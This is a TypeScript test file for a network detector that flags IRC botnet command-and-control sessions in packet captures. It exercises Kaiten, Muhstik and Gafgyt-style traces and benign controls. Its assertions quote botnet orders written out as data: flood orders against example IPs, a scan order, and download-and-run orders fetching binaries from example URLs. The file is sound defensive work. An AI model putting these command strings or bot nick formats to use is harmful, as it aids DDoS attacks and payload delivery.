import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { reportsOf } from '../../../test/support/detector-harness.ts';
import { buildIrcPcap } from '../../../test/traces/app-login/irc-bot-session.generate.ts';
import { sessions } from '../../../test/traces/app-login/irc-families.generate.ts';
import { machineNickReason, orderTargets } from '../lib/irc-structure.ts';
import detector from './c2.irc.ts';

const trace = (p: string): string => new URL(`../../../test/traces/${p}`, import.meta.url).pathname;
const sample = (n: string): string => new URL(`../../../samples/${n}`, import.meta.url).pathname;
const bot = trace('app-login/irc-bot-session.generated.pcap');

test('❌ irc-bot-session.generated.pcap: bot-like session at the JOIN, then four orders from the herder', async () => {
  const rs = await reportsOf(detector, [bot]);
  assert.ok(rs.every((r) => r.key === '192.0.2.10|198.51.100.20|6667'));
  assert.deepEqual(rs.map((r) => [r.messageId, r.evidence?.packet]), [
    ['session', 9], // JOIN #b0ts right after the MOTD, nick [x86|US|4821], one PONG and no chat
    ['command', 10], // 332 topic "!scan 10.0.0.0/8 23" after JOIN
    ['command', 11], // PRIVMSG "!scan 192.168.1.0/24 23"
    ['command', 12], // PRIVMSG "!udp 203.0.113.9 80 60" (split across frames 11-12)
    ['command', 15], // TOPIC "!update http://203.0.113.7/x86"
  ]);
  assert.equal(rs[0].severity, 'medium');
  assert.deepEqual(rs[1].devices, [{ role: 'infected', ip: '192.0.2.10' }, { role: 'peer', ip: '198.51.100.20' }]);
  assert.equal(rs[3].data.command, '!udp 203.0.113.9 80 60');
  assert.deepEqual(rs[3].facts?.targets, ['203.0.113.9']);
  assert.deepEqual(rs[3].facts?.target_ports, [80]);
  assert.deepEqual(rs[4].facts?.targets, ['http://203.0.113.7/x86']);
});

// Family sessions: neither the nick formats nor most verbs (TSUNAMI, PAN, .rscan, .dlr, BLACKNURSE) are in
// the old lists; the orders are told by their structure (targets after a command prefix).
const families: [string, string[]][] = [
  ['irc-kaiten.generated.pcap', ['!* TSUNAMI 203.0.113.99 300', '!QXVRTKBW PAN 203.0.113.98 80 120']],
  ['irc-muhstik.generated.pcap', ['.rscan 203.0.113.0/24 8080 7001', '.dlr http://203.0.113.50/pty10 /tmp/.pty']],
  ['irc-gafgyt.generated.pcap', ['!* BLACKNURSE 203.0.113.120 53 60', '!* HOLD 203.0.113.121 80 60']],
];
for (const [file, orders] of families) {
  test(`❌ ${file}: every order reported, the device infected`, async () => {
    assert.deepEqual(readFileSync(trace(`app-login/${file}`)), Buffer.from(buildIrcPcap(sessions[file])), 'file equals its generator output');
    const rs = (await reportsOf(detector, [trace(`app-login/${file}`)])).filter((r) => r.messageId === 'command');
    assert.deepEqual(rs.map((r) => r.data.command), orders);
    assert.equal(rs[0].devices[0].role, 'infected');
    assert.equal(rs[0].devices[0].ip, `192.0.2.${sessions[file].client[3]}`);
  });
  test(`❌ ${file} with an empty command word list still reports (structure, not words)`, async () => {
    const rs = await reportsOf(detector, [trace(`app-login/${file}`)], { botCommands: [], botNickPattern: '^$' });
    assert.ok(rs.some((r) => r.messageId === 'command'));
  });
}

test('❌ a person-like nickname on a camera: keep-alives and orders from a non-PC device are reported', async () => {
  const spec = { ...sessions['irc-kaiten.generated.pcap'] };
  spec.conversation = spec.conversation.map(([c, t, p]) => [c, t.replaceAll('QXVRTKBW', 'martin'), p] as [boolean, string, number?]);
  const path = `${process.env.TMPDIR ?? '/tmp'}/bulwark-irc-camera-${process.pid}.pcap`;
  (await import('node:fs')).writeFileSync(path, buildIrcPcap(spec));
  const camera = { identification: { type: 'camera' } } as never;
  const rs = await reportsOf(detector, [path], {}, { byIp: (ip: string) => (ip === '192.0.2.21' ? camera : undefined), byMac: () => undefined });
  assert.deepEqual(rs.filter((r) => r.messageId === 'command').map((r) => r.data.command), ['!* TSUNAMI 203.0.113.99 300', '!martin PAN 203.0.113.98 80 120']);
  assert.match(String(rs[0].data.traits), /camera, not a computer/);
  const unknown = await reportsOf(detector, [path]);
  assert.deepEqual(unknown, [], 'the same session from a device of unknown type with a human nick stays quiet');
});

test('structure helpers: nicknames and targets', () => {
  for (const nick of ['[x86|US|4821]', 'x86_64|x|0|3317764|cam', 'QXVRTKBW', 'B0T4480917', 'mips|3f9a', 'a1b2c3d4e5']) assert.notEqual(machineNickReason(nick), '', nick);
  for (const nick of ['alice', 'bob1985', 'Dr_Who', 'kernel_hacker', 'Zoë', 'JohnS']) assert.equal(machineNickReason(nick), '', nick);
  assert.deepEqual(orderTargets('!* UDP 203.0.113.9:53 60 and 10.0.0.0/8 http://x.example/a.sh'), { ips: ['203.0.113.9'], cidrs: ['10.0.0.0/8'], ports: [53], urls: ['http://x.example/a.sh'] });
});

const invalid = [sample('dlink-camera-setup.pcap'), trace('detect-net/hakai-c2-cut.pcap'), trace('pipeline/telnet-raw.pcap'), trace('app-login/irc-person.generated.pcap')];
for (const file of invalid) {
  test(`✅ no IRC bot control in ${file.split('/').at(-1)}`, async () => {
    assert.deepEqual(await reportsOf(detector, [file]), []);
  });
}
